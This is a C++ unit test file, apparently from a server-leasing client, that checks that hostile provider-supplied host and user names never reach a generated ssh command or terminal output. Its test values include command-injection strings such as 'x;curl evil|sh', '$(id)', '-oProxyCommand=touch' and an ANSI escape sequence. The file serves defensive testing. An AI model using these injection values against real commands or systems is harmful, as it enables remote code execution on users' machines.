// SPDX-License-Identifier: GPL-3.0-or-later
// A provider's words are shown in terminals and pasted into them: none of them may do harm there.
#include "consumer/cli/outcome.h"
#include "consumer/core/ssh_word.h"
#include "world.h"

using namespace consumer;
using namespace test;
using base::Sats;

namespace {

class HostileWordTest : public testing::Test, public testing::WithParamInterface<QString> {
protected:
    World world;

    void SetUp() override { world.fund(Sats{1000}); }
    void askStatus(qint64 number)
    {
        auto asking = world.market().leases().refreshStatus(number);
        EXPECT_TRUE(world.runUntil([&asking] { return asking.isDone(); }));
    }
    QString commandFor(qint64 number)
    {
        return world.market().serverRow(*world.lease(number)).sshCommand;
    }
};

TEST_P(HostileWordTest, AsAHostReachesNoCommand)
{
    world.provider.host = GetParam();
    const auto number = world.aServer(Sats{100});
    EXPECT_TRUE(world.lease(number)->host.isEmpty());
    EXPECT_TRUE(commandFor(number).isEmpty());
    world.provider.host = u"203.0.113.7"_s;
    askStatus(number);
    EXPECT_EQ(commandFor(number), u"ssh -p 31000 root@203.0.113.7"_s);

    world.provider.host = GetParam();
    askStatus(number);

    EXPECT_EQ(commandFor(number), u"ssh -p 31000 root@203.0.113.7"_s);
}

TEST_P(HostileWordTest, AsAUserReachesNoCommand)
{
    world.provider.user = GetParam();

    const auto number = world.aServer(Sats{100});

    // Of several words the first is the name.
    const auto user = world.lease(number)->user;
    EXPECT_TRUE(user.isEmpty() || user == u"host"_s);
    EXPECT_EQ(commandFor(number).isEmpty(), user.isEmpty());
}

INSTANTIATE_TEST_SUITE_P(Each, HostileWordTest,
    testing::Values(u"x;curl evil|sh"_s, u"host name"_s, u"host\nrm"_s, u"-oProxyCommand=touch"_s,
        u"$(id)"_s, u"`id`"_s, u"a\x1b[2J"_s, u"'"_s, u"h\u00f6st"_s, QString{300, u'a'}));

TEST(SshWordTest, TakesNamesAndAddresses)
{
    for (const auto& word :
        {u"host.example"_s, u"203.0.113.7"_s, u"[2001:db8::7]"_s, u"my_user-1"_s})
        EXPECT_TRUE(isPlainSshWord(word)) << word.toStdString();
    EXPECT_FALSE(isPlainSshWord({}));
}

TEST(PrintableTest, LeavesNoControlCharacters)
{
    EXPECT_EQ(printable(u"a\x1b[2Jb\u009bc\u202ed\n\te"_s), u"a\ufffd[2Jb\ufffdc\ufffdd\n\te"_s);
}

} // namespace
